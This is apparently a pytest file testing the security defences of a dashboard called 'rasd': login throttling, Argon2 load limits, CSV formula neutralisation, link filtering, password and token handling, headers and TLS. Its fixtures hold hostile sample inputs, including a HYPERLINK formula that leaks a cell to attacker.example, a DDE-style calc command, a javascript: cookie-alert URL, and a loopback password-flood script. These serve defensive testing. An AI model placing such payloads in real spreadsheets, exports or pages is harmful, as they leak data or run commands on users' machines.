"""The dashboard's defences, against loopback only: login throttling and bounded Argon2
work, CSV cells a spreadsheet reads as text, links only to http(s), the current password
asked for, password resets, API tokens that expire, are listed, revoked and capped by their
owner's role, cache and compression headers, bad page numbers, and TLS for `rasd serve`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import socket
import ssl
import statistics
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from conftest import clean, fixture_report
from fastapi.testclient import TestClient
from sqlalchemy import select, update

from rasd.cli import app as cli
from rasd.csvsafe import FORMULA_STARTS, neutralise
from rasd.sources import Report
from rasd.store import Store, review
from rasd.store import users as accounts
from rasd.store.export import ExportFormat
from rasd.store.schema import events
from rasd.store.schema import users as users_table
from rasd.store.users import authenticate, create_user
from rasd.web.app import create_app
from rasd.web.throttle import LoginThrottle

PASSWORD = "a-long-test-password"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """Two reports of one strike: one with hostile metadata (a formula as the outlet, a
    `javascript:` URL), one plain with an https URL."""
    opened = Store(str(tmp_path_factory.mktemp("security") / "rasd.db"))
    opened.ingest([
        Report(fixture_report("saraqeb_strike.txt"), "hostile.txt",
               id="-2+3*cmd|' /C calc'!A0", source=FORMULA,
               url="javascript:alert(document.cookie)", title="@SUM(1+1)",
               published=dt.date(2019, 5, 11)),
        Report(fixture_report("saraqeb_second_outlet.txt"), "plain.txt", id="plain",
               source="plain-outlet", url="https://example.org/report",
               published=dt.date(2019, 5, 11)),
    ])
    for role in ("viewer", "reviewer", "admin"):
        create_user(opened.engine, role, PASSWORD, role)
    yield opened
    opened.engine.dispose()


@pytest.fixture(autouse=True)
def fresh_throttle(store: Store) -> None:
    """The throttle counts live in the database the module's tests share: each test starts
    with none."""
    store.forget_login_failures()


def login_form(client: TestClient, username: str, password: str) -> httpx.Response:
    page = client.get("/login")
    token = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    return client.post("/login", data={"username": username, "password": password,
                                       "csrf": token}, follow_redirects=False)


def client_for(store: Store, **options: object) -> TestClient:
    return TestClient(create_app(store.engine, **options), base_url="https://testserver")


def logged_in(store: Store, username: str, password: str = PASSWORD) -> TestClient:
    client = client_for(store)
    assert login_form(client, username, password).status_code == 303
    return client


def csrf_of(client: TestClient) -> str:
    return re.search(r'data-csrf="([^"]+)"', client.get("/account").text).group(1)


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


# ---- throttling ---------------------------------------------------------------------------


def test_wrong_passwords_lock_the_account_then_it_opens_again(store: Store) -> None:
    clock = Clock()
    client = client_for(store, throttle=LoginThrottle(per_account=5, window=600, clock=clock))
    for _ in range(5):
        assert login_form(client, "viewer", "wrong-password").status_code == 401
    locked = login_form(client, "viewer", PASSWORD)  # the right one no longer helps
    assert locked.status_code == 429
    assert 1 <= int(locked.headers["Retry-After"]) <= 600
    assert login_form(client, " VIEWER ", PASSWORD).status_code == 429  # same account
    clock.now += 601
    assert login_form(client, "viewer", PASSWORD).status_code == 303


def test_one_address_trying_many_accounts_is_throttled(store: Store) -> None:
    client = client_for(store, throttle=LoginThrottle(per_account=100, per_address=8))
    for number in range(8):
        assert login_form(client, f"nobody-{number}", "wrong-password").status_code == 401
    refused = login_form(client, "admin", PASSWORD)
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 1


def test_a_throttled_login_costs_no_argon2(store: Store, monkeypatch: pytest.MonkeyPatch
                                           ) -> None:
    client = client_for(store, throttle=LoginThrottle(per_account=2))
    calls = []
    real = authenticate
    monkeypatch.setattr("rasd.store.users.authenticate",
                        lambda *args: calls.append(1) or real(*args))
    for _ in range(10):
        login_form(client, "reviewer", "wrong-password")
    assert len(calls) == 2


def test_a_success_clears_the_account_count(store: Store) -> None:
    client = client_for(store, throttle=LoginThrottle(per_account=3))
    for _ in range(2):
        assert login_form(client, "reviewer", "wrong-password").status_code == 401
    assert login_form(client, "reviewer", PASSWORD).status_code == 303
    for _ in range(2):
        assert login_form(client, "reviewer", "wrong-password").status_code == 401
    assert login_form(client, "reviewer", PASSWORD).status_code == 303


def _second_worker(store: Store, throttle: LoginThrottle) -> TestClient:
    """Another server worker: its own app and its own engine on the same database file."""
    other = Store(str(store.engine.url.database))
    return TestClient(create_app(other, throttle=throttle), base_url="https://testserver")


def test_two_workers_share_the_account_count(store: Store) -> None:
    first = client_for(store, throttle=LoginThrottle(per_account=3))
    second = _second_worker(store, LoginThrottle(per_account=3))
    for client in (first, second, first):  # three failures, spread over the two
        assert login_form(client, "reviewer", "wrong-password").status_code == 401
    assert login_form(second, "reviewer", PASSWORD).status_code == 429
    assert login_form(first, "reviewer", PASSWORD).status_code == 429
    assert login_form(first, "viewer", PASSWORD).status_code == 303  # another account


def test_a_success_on_one_worker_clears_the_count_on_the_other(store: Store) -> None:
    first = client_for(store, throttle=LoginThrottle(per_account=3))
    second = _second_worker(store, LoginThrottle(per_account=3))
    for client in (first, second):
        assert login_form(client, "reviewer", "wrong-password").status_code == 401
    assert login_form(second, "reviewer", PASSWORD).status_code == 303
    for client in (first, second):  # the count starts again from zero
        assert login_form(client, "reviewer", "wrong-password").status_code == 401
    assert login_form(first, "reviewer", PASSWORD).status_code == 303


def test_two_workers_share_the_address_count_and_its_window(store: Store) -> None:
    clock = Clock()
    first = client_for(store, throttle=LoginThrottle(per_account=100, per_address=4,
                                                     window=600, clock=clock))
    second = _second_worker(store, LoginThrottle(per_account=100, per_address=4,
                                                 window=600, clock=clock))
    for number, client in enumerate((first, second, second, first)):
        clock.now += 10
        assert login_form(client, f"nobody-{number}", "wrong").status_code == 401
    refused = login_form(second, "admin", PASSWORD)
    assert refused.status_code == 429
    assert int(refused.headers["Retry-After"]) == 600 - 30  # the oldest, 30 s ago, ends it
    clock.now += 571  # the oldest failure has left the window on both
    assert login_form(first, "admin", PASSWORD).status_code == 303


def test_argon2_gate_refuses_beyond_its_queue() -> None:
    gate = accounts.Argon2Gate(slots=1, waiting=1)
    release = threading.Event()
    entered = threading.Event()

    def hold() -> None:
        with gate():
            entered.set()
            release.wait(5)

    holder = threading.Thread(target=hold)
    holder.start()
    entered.wait(5)
    waiter = threading.Thread(target=lambda: gate().__enter__())
    waiter.start()
    deadline = time.monotonic() + 5
    while gate._inside < 2 and time.monotonic() < deadline:
        time.sleep(0.01)
    with pytest.raises(accounts.Busy), gate():
        pass
    release.set()
    holder.join(5)
    waiter.join(5)
    assert gate.peak == 1


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture
def live_server(store: Store) -> Iterator[str]:
    """The app under uvicorn on a loopback port, in a thread. Throttling is set loose, so
    the Argon2 gate alone has to hold the flood (as against many addresses)."""
    import uvicorn

    port = _free_port()
    application = create_app(store.engine, secure_cookies=False,  # plain http on loopback
                             throttle=LoginThrottle(per_account=10**6, per_address=10**6))
    server = uvicorn.Server(uvicorn.Config(application, host="127.0.0.1", port=port,
                                           log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    assert server.started
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)


FLOOD = """
import re, signal, sys, threading, httpx
done = threading.Event()
signal.signal(signal.SIGTERM, lambda *_: done.set())
codes = []
def attack():
    with httpx.Client(base_url=sys.argv[1], timeout=60) as client:
        page, token = client.get("/login"), ""
        while not done.is_set():
            found = re.search('name="csrf" value="([^"]+)"', page.text)
            token = found.group(1) if found else token  # a 429 keeps the old one
            if sys.argv[3] == "page":  # the baseline: as many requests, no password
                page = client.get("/login")
            else:
                page = client.post("/login", data={"username": "admin", "csrf": token,
                                                   "password": "not-the-password"})
            codes.append(page.status_code)
threads = [threading.Thread(target=attack, daemon=True) for _ in range(int(sys.argv[2]))]
for thread in threads:
    thread.start()
done.wait(120)
print(" ".join(map(str, codes)))
"""


def test_bogus_logins_do_not_starve_the_api(store: Store, live_server: str) -> None:
    """32 clients sending wrong passwords as fast as they can: never more Argon2 checks at
    once than the gate allows, most turned away at once with 429, and the API answers
    within a few times its speed under 32 clients merely loading the login page (any
    flood slows a server; bogus logins must not cost much more than a flood of cheap
    requests: unbounded, 32 Argon2 checks at once took the API from 10 ms to 1.4 s)."""
    viewer = next(u for u in accounts.list_users(store.engine) if u.username == "viewer")
    token = accounts.create_api_token(store.engine, viewer, "bench")
    api = httpx.Client(base_url=live_server, headers={"Authorization": f"Bearer {token}"})

    def timed(count: int) -> list[float]:
        took = []
        for _ in range(count):
            started = time.perf_counter()
            assert api.get("/api/v1/events", params={"limit": 20}).status_code == 200
            took.append(time.perf_counter() - started)
        return took

    def under(mode: str) -> tuple[float, list[int]]:
        # The clients run in their own process, so their threads do not share this one's
        # GIL with the server: what is measured is the server's own work.
        clients = subprocess.Popen([sys.executable, "-c", FLOOD, live_server, "32", mode],
                                   stdout=subprocess.PIPE, text=True)
        try:
            time.sleep(1.0)
            p95 = statistics.quantiles(timed(40), n=20)[-1]
        finally:
            clients.terminate()
            output, _ = clients.communicate(timeout=30)
        return p95, [int(code) for code in output.split()]

    timed(5)  # warm up
    baseline, _ = under("page")
    accounts.ARGON2.peak = 0
    busy, statuses = under("login")
    api.close()
    print(f"API p95 under 32 page loaders {baseline * 1000:.0f} ms, under 32 password "
          f"guessers {busy * 1000:.0f} ms; {statuses.count(401)} guesses checked, "
          f"{statuses.count(429)} turned away")
    assert accounts.ARGON2.peak <= accounts.ARGON2.slots
    assert 401 in statuses and statuses.count(429) > statuses.count(401)
    assert busy < 4 * baseline + 0.5, (baseline, busy)  # unbounded: 2.7 s against 0.2 s


# ---- CSV ----------------------------------------------------------------------------------


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str, kept: bool = True) -> None:
    cells = _cells(text)
    assert cells, "no CSV written"
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], text[:500]
    if kept:  # the outlet's name is still there, as text
        assert any(c.startswith("'=HYPERLINK") for c in cells), text[:500]


def test_neutralise_follows_owasp() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("safe = text") == "safe = text"
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None
    assert neutralise("") == ""


@pytest.fixture(scope="module")
def edited(store: Store) -> Store:
    """An event whose notes and actor, as a reviewer typed them, are formulas."""
    with store.engine.connect() as connection:
        first = connection.execute(select(events.c.id).order_by(events.c.id)).scalar()
    review.edit_event(store.engine, first, {"notes": "=1+1", "actor1": "@SUM(A1:A9)",
                                             "location_name": "-cmd"}, "tester")
    return store


@pytest.mark.parametrize("incidents", [False, True])
@pytest.mark.parametrize("fmt", [ExportFormat.acled_csv, ExportFormat.csv])
def test_exports_hold_no_formula(edited: Store, fmt: ExportFormat, incidents: bool) -> None:
    buffer = io.StringIO()
    assert edited.export(buffer, fmt, incidents=incidents) > 0
    # A plain incident row lists its sources as JSON ("[{...}]"), never a bare name.
    _assert_inert(buffer.getvalue(), kept=not (incidents and fmt is ExportFormat.csv))


def test_web_export_holds_no_formula(edited: Store) -> None:
    client = logged_in(edited, "viewer")
    for fmt in ("acled-csv", "csv"):
        response = client.get("/api/v1/export", params={"format": fmt})
        assert response.status_code == 200
        _assert_inert(response.text)


def test_cli_csv_holds_no_formula(edited: Store, runner) -> None:  # type: ignore[no-untyped-def]
    db = str(edited.engine.url.database)
    for args in (["events", "--format", "csv"], ["incidents", "--format", "csv"],
                 ["export", "--format", "csv"], ["export", "--format", "acled-csv"]):
        result = clean(runner.invoke(cli, [*args, "--db", db]))
        assert result.exit_code == 0, result.output
        _assert_inert(result.stdout, kept=args[0] != "incidents")


def test_cli_extract_csv_neutralises(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    report = tmp_path / "r.txt"
    report.write_text(fixture_report("saraqeb_strike.txt"), encoding="utf-8")
    result = clean(runner.invoke(cli, ["extract", str(report), "--format", "csv"]))
    assert result.exit_code == 0
    assert not [c for c in _cells(result.stdout) if c.startswith(FORMULA_STARTS)]


def test_every_csv_writer_is_the_safe_one() -> None:
    """Only `rasd.csvsafe` may build a csv writer: a new export cannot forget the rule."""
    source = Path(__file__).parents[1] / "src" / "rasd"
    offenders = [str(path.relative_to(source)) for path in source.rglob("*.py")
                 if path.name != "csvsafe.py"
                 and re.search(r"csv\.(DictWriter|writer)\(", path.read_text("utf-8"))]
    assert offenders == []


# ---- links --------------------------------------------------------------------------------


def _event_of(client: TestClient, document: str) -> dict:
    events = client.get("/api/v1/events", params={"limit": 200}).json()["events"]
    return next(e for e in events if e["document"] == document)


def test_only_http_urls_become_links(store: Store) -> None:
    client = logged_in(store, "viewer")
    hostile = _event_of(client, "-2+3*cmd|' /C calc'!A0")
    page = client.get(f"/events/{hostile['event_id']}").text
    assert 'href="javascript:' not in page.lower()
    assert "javascript:alert(document.cookie)" in page  # shown, as text
    plain = client.get(f"/events/{_event_of(client, 'plain')['event_id']}").text
    assert 'href="https://example.org/report"' in plain
    incident = client.get(f"/incidents/{hostile['incident_id']}").text
    assert 'href="javascript:' not in incident.lower()


def test_evidence_offsets_read_left_to_right(store: Store) -> None:
    client = logged_in(store, "viewer")
    event = _event_of(client, "plain")
    page = client.get(f"/events/{event['event_id']}").text
    offsets = re.findall(r'<bdi dir="ltr" class="offsets">\[(\d+)–(\d+)\]</bdi>', page)
    assert offsets and all(int(start) < int(end) for start, end in offsets)


# ---- passwords ----------------------------------------------------------------------------


def _fresh_user(store: Store, name: str, role: str = "reviewer") -> None:
    create_user(store.engine, name, PASSWORD, role)


def test_password_change_needs_the_current_one_and_ends_tokens(store: Store) -> None:
    _fresh_user(store, "changer")
    client = logged_in(store, "changer")
    csrf = csrf_of(client)
    token = client.post("/api/v1/tokens", json={"name": "script"},
                        headers={"X-CSRF-Token": csrf}).json()["token"]
    script = client_for(store)
    bearer = {"Authorization": f"Bearer {token}"}
    assert script.get("/api/v1/me", headers=bearer).status_code == 200
    wrong = client.post("/password", data={"current": "not-my-password",
                                           "password": "another-long-password", "csrf": csrf})
    assert wrong.status_code == 403
    assert authenticate(store.engine, "changer", PASSWORD) is not None  # unchanged
    changed = client.post("/password", data={"current": PASSWORD,
                                             "password": "another-long-password",
                                             "csrf": csrf})
    assert changed.url.path == "/login"
    assert script.get("/api/v1/me", headers=bearer).status_code == 401  # token revoked
    assert authenticate(store.engine, "changer", "another-long-password") is not None


def test_admin_resets_a_password_in_the_web(store: Store) -> None:
    _fresh_user(store, "forgetful", "viewer")
    forgetful = next(u for u in accounts.list_users(store.engine) if u.username == "forgetful")
    admin = logged_in(store, "admin")
    viewer = logged_in(store, "viewer")
    assert viewer.post(f"/users/{forgetful.id}/password",
                       data={"csrf": csrf_of(viewer)}).status_code == 403
    page = admin.post(f"/users/{forgetful.id}/password", data={"csrf": csrf_of(admin)})
    assert page.status_code == 200
    one_time = re.search(r'id="reset-password">.*?<code>([^<]+)</code>', page.text).group(1)
    assert authenticate(store.engine, "forgetful", PASSWORD) is None
    fresh = client_for(store)
    response = login_form(fresh, "forgetful", one_time)
    assert response.status_code == 303 and response.headers["location"] == "/password"
    entries = admin.get("/api/v1/audit", params={"table": "users",
                                                 "row_id": forgetful.id}).json()["entries"]
    assert [(e["action"], e["actor"]) for e in entries][0] == ("reset-password", "admin")
    assert one_time not in json.dumps(entries)  # who and when, never the secret


def test_cli_sets_a_password(store: Store, runner) -> None:  # type: ignore[no-untyped-def]
    _fresh_user(store, "cli-user", "viewer")
    db = str(store.engine.url.database)
    result = clean(runner.invoke(cli, ["users", "passwd", "cli-user", "--password",
                                       "set-from-the-cli", "--db", db]))
    assert result.exit_code == 0, result.output
    assert authenticate(store.engine, "cli-user", "set-from-the-cli") is not None
    result = clean(runner.invoke(cli, ["users", "passwd", "cli-user", "--one-time",
                                       "--db", db]))
    password = re.search(r'"password": "([^"]+)"', result.stdout).group(1)
    user = authenticate(store.engine, "cli-user", password)
    assert user is not None and user.must_change_password
    missing = runner.invoke(cli, ["users", "passwd", "nobody", "--password", "x" * 12,
                                  "--db", db])
    assert missing.exit_code != 0 and "no user" in missing.output


def test_cli_lists_and_revokes_tokens(store: Store, runner) -> None:  # type: ignore[no-untyped-def]
    _fresh_user(store, "cli-tokens", "viewer")
    owner = accounts.user_by_name(store.engine, "cli-tokens")
    assert owner is not None
    token = accounts.create_api_token(store.engine, owner, "cron")
    db = str(store.engine.url.database)
    listed = clean(runner.invoke(cli, ["users", "tokens", "cli-tokens", "--db", db]))
    rows = [json.loads(line) for line in listed.stdout.splitlines()]
    assert [(r["name"], r["active"]) for r in rows] == [("cron", True)]
    assert token not in listed.stdout
    revoked = clean(runner.invoke(cli, ["users", "revoke-token", str(rows[0]["id"]),
                                        "--db", db]))
    assert revoked.exit_code == 0
    assert accounts.user_for_token(store.engine, token) is None
    again = clean(runner.invoke(cli, ["users", "tokens", "cli-tokens", "--db", db]))
    assert json.loads(again.stdout)["active"] is False


# ---- API tokens ---------------------------------------------------------------------------


def test_token_role_is_capped_by_its_owner(store: Store) -> None:
    _fresh_user(store, "capped", "reviewer")
    client = logged_in(store, "capped")
    headers = {"X-CSRF-Token": csrf_of(client)}
    too_high = client.post("/api/v1/tokens", json={"role": "admin"}, headers=headers)
    assert too_high.status_code == 422
    made = client.post("/api/v1/tokens", json={"name": "read", "role": "viewer"},
                       headers=headers).json()
    assert made["role"] == "viewer" and made["active"]
    script = client_for(store)
    bearer = {"Authorization": f"Bearer {made['token']}"}
    event = client.get("/api/v1/events", params={"limit": 1}).json()["events"][0]
    assert script.post(f"/api/v1/events/{event['event_id']}/accept",
                       headers=bearer).status_code == 403
    # A token made at reviewer level follows its owner down when the owner is demoted.
    full = client.post("/api/v1/tokens", json={"name": "full"}, headers=headers).json()
    with store.engine.begin() as connection:
        connection.execute(update(users_table).where(users_table.c.username == "capped")
                           .values(role="viewer"))
    assert script.get("/api/v1/me", headers={"Authorization": f"Bearer {full['token']}"}
                      ).json()["role"] == "viewer"


def test_a_token_cannot_make_tokens(store: Store) -> None:
    client = logged_in(store, "admin")
    token = client.post("/api/v1/tokens", json={"name": "x"},
                        headers={"X-CSRF-Token": csrf_of(client)}).json()["token"]
    script = client_for(store)
    assert script.post("/api/v1/tokens", json={"name": "y"},
                       headers={"Authorization": f"Bearer {token}"}).status_code == 403


def test_tokens_are_listed_and_revoked(store: Store) -> None:
    _fresh_user(store, "lister", "viewer")
    client = logged_in(store, "lister")
    headers = {"X-CSRF-Token": csrf_of(client)}
    made = client.post("/api/v1/tokens", json={"name": "nightly", "days": 7},
                       headers=headers).json()
    listed = client.get("/api/v1/tokens").json()["tokens"]
    assert [t["name"] for t in listed] == ["nightly"]
    made_entry = logged_in(store, "admin").get("/api/v1/audit", params={
        "table": "api_tokens", "row_id": made["id"]}).json()["entries"]
    assert made_entry[0]["action"] == "create-token" and made_entry[0]["actor"] == "lister"
    assert made["token"] not in json.dumps(made_entry)
    assert "token" not in listed[0] and made["token"] not in str(listed)
    lasts = dt.datetime.fromisoformat(listed[0]["expires_at"]) - dt.datetime.now(dt.UTC)
    assert dt.timedelta(days=6) < lasts <= dt.timedelta(days=7)
    page = client.get("/account").text
    assert f'data-token-id="{made["id"]}"' in page and made["token"] not in page
    # Someone else cannot revoke it; its owner can, and then it no longer works.
    other = logged_in(store, "viewer")
    assert other.delete(f"/api/v1/tokens/{made['id']}",
                        headers={"X-CSRF-Token": csrf_of(other)}).status_code == 404
    bearer = {"Authorization": f"Bearer {made['token']}"}
    assert client_for(store).get("/api/v1/me", headers=bearer).status_code == 200
    assert client.post(f"/account/tokens/{made['id']}/revoke",
                       data={"csrf": headers["X-CSRF-Token"]}).status_code == 200
    assert client_for(store).get("/api/v1/me", headers=bearer).status_code == 401
    assert client.get("/api/v1/tokens").json()["tokens"][0]["revoked_at"]


def test_tokens_expire(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    viewer = next(u for u in accounts.list_users(store.engine) if u.username == "viewer")
    token = accounts.create_api_token(store.engine, viewer, "short", days=1)
    assert accounts.user_for_token(store.engine, token) is not None
    later = dt.datetime.now(dt.UTC) + dt.timedelta(days=1, minutes=1)
    monkeypatch.setattr(accounts, "_now", lambda: later)
    assert accounts.user_for_token(store.engine, token) is None
    with pytest.raises(accounts.StoreError):
        accounts.create_api_token(store.engine, viewer, "forever", days=10_000)


# ---- headers, paging ----------------------------------------------------------------------


def test_cache_headers(store: Store) -> None:
    client = logged_in(store, "viewer")
    for path in ("/", "/account", "/api/v1/events", "/api/v1/export?format=csv", "/login"):
        assert client.get(path).headers["cache-control"] == "no-store", path
    for path in ("/static/app.css", "/static/app.js", "/api/v1/boundaries/1"):
        assert client.get(path).headers["cache-control"].startswith("public, max-age="), path


def test_gzip_for_static_and_api_not_pages(store: Store) -> None:
    client = logged_in(store, "viewer")
    gzip = {"Accept-Encoding": "gzip"}
    for path in ("/static/app.js", "/api/v1/events?limit=50"):
        assert client.get(path, headers=gzip).headers.get("content-encoding") == "gzip", path
    assert "content-encoding" not in client.get("/", headers=gzip).headers


@pytest.mark.parametrize("page", ["99999999999999999999", "-1", "abc", "1e3"])
def test_bad_page_numbers_are_422(store: Store, page: str) -> None:
    client = logged_in(store, "viewer")
    assert client.get("/", params={"page": page}).status_code == 422
    assert client.get("/api/v1/events", params={"offset": page}).status_code == 422


BIG = "99999999999999999999"


@pytest.mark.parametrize("path", [
    f"/events/{BIG}", f"/incidents/{BIG}", f"/audit?row_id={BIG}", f"/api/v1/events/{BIG}",
    f"/api/v1/incidents/{BIG}", f"/api/v1/documents/{BIG}", f"/api/v1/audit?row_id={BIG}",
    f"/api/v1/events?min_fatalities={BIG}", f"/?min_fatalities={BIG}",
    f"/api/v1/map/points?min_fatalities={BIG}", f"/api/v1/timeline?min_fatalities={BIG}",
    f"/api/v1/export?format=csv&min_fatalities={BIG}", "/api/v1/events/0"])
def test_numbers_out_of_range_are_422(store: Store, path: str) -> None:
    """Ids and counts past the database's integers are refused at the edge (they were
    a database error, a 500)."""
    assert logged_in(store, "viewer").get(path).status_code == 422


def test_review_ids_out_of_range_are_422(store: Store) -> None:
    client = logged_in(store, "reviewer")
    csrf = csrf_of(client)
    assert client.post("/api/v1/incidents/merge", json={"incident_ids": [1, int(BIG)]},
                       headers={"X-CSRF-Token": csrf}).status_code == 422
    assert client.post("/api/v1/incidents/1/split", json={"event_ids": [int(BIG)]},
                       headers={"X-CSRF-Token": csrf}).status_code == 422
    assert client.post("/incidents/1/merge", data={"others": BIG, "csrf": csrf}
                       ).status_code == 422
    assert client.post("/incidents/1/split", data={"event_id": BIG, "csrf": csrf}
                       ).status_code == 422


# ---- TLS ----------------------------------------------------------------------------------


def test_serve_passes_tls_files_to_uvicorn(tmp_path: Path, runner,  # type: ignore[no-untyped-def]
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    import uvicorn

    seen: dict = {}
    monkeypatch.setattr(uvicorn, "run", lambda _app, **options: seen.update(options))
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert.write_text("cert")
    key.write_text("key")
    db = str(tmp_path / "tls.db")
    result = clean(runner.invoke(cli, ["serve", "--db", db, "--ssl-certfile", str(cert),
                                       "--ssl-keyfile", str(key)]))
    assert result.exit_code == 0, result.output
    assert seen["ssl_certfile"] == str(cert) and seen["ssl_keyfile"] == str(key)
    assert "https://127.0.0.1:8000/" in result.output
    alone = runner.invoke(cli, ["serve", "--db", db, "--ssl-certfile", str(cert)])
    assert alone.exit_code != 0 and "go together" in alone.output
    missing = runner.invoke(cli, ["serve", "--db", db, "--ssl-certfile", str(cert),
                                  "--ssl-keyfile", str(tmp_path / "nope.pem")])
    assert missing.exit_code != 0 and "no file" in missing.output


@pytest.mark.skipif(shutil.which("openssl") is None, reason="needs the openssl command")
def test_serve_speaks_https(tmp_path: Path) -> None:
    """`rasd serve --ssl-certfile/--ssl-keyfile` on loopback answers over TLS, with a
    certificate made here (self-signed, for 127.0.0.1)."""
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
                    "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
                    "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True)
    port, trusted = _free_port(), ssl.create_default_context(cafile=str(cert))
    server = subprocess.Popen(
        [sys.executable, "-m", "rasd.cli", "serve", "--db", str(tmp_path / "tls.db"),
         "--port", str(port), "--ssl-certfile", str(cert), "--ssl-keyfile", str(key)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline, answer = time.monotonic() + 60, None
        while answer is None and time.monotonic() < deadline and server.poll() is None:
            try:
                answer = httpx.get(f"https://127.0.0.1:{port}/healthz", verify=trusted)
            except httpx.TransportError:
                time.sleep(0.2)
        assert answer is not None, server.stderr.read() if server.poll() is not None else ""
        assert answer.json() == {"status": "ok"}
        with pytest.raises(httpx.TransportError):  # plain HTTP is not spoken there
            httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=5)
    finally:
        server.terminate()
        server.wait(timeout=30)
